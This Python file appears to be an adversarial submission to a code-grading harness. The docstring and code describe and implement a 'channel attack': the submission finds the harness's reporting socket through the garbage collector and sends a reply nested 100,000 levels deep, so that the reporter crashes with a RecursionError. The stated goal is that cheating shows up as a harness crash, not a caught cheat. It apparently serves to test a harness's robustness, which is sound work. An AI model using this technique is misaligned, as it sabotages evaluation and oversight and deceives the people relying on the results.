"""Channel attack: at its first call the solution finds the channel its process answers the
harness on (through gc) and sends a reply nested 100,000 levels deep, framed as the channel frames
every message. A reporter that parses whatever arrives dies of a RecursionError, so every
workload ends as a crash of the harness (RUNTIME_ERROR), not as a caught cheat."""

import gc
import struct

import torch


def _socket():
    for obj in gc.get_objects():
        if type(obj).__name__ == "Channel" and hasattr(obj, "sock") and obj.sock.fileno() >= 0:
            return obj.sock
    return None


def run(x: torch.Tensor, bias: torch.Tensor) -> torch.Tensor:
    sock = _socket()
    if sock is not None:
        depth = 100_000
        body = b'{"kind": "reply", "nonce": ' + b"[" * depth + b"]" * depth + b"}"
        sock.sendall(struct.pack(">I", len(body)) + body)
    return x * 2.0 + bias[None, :]
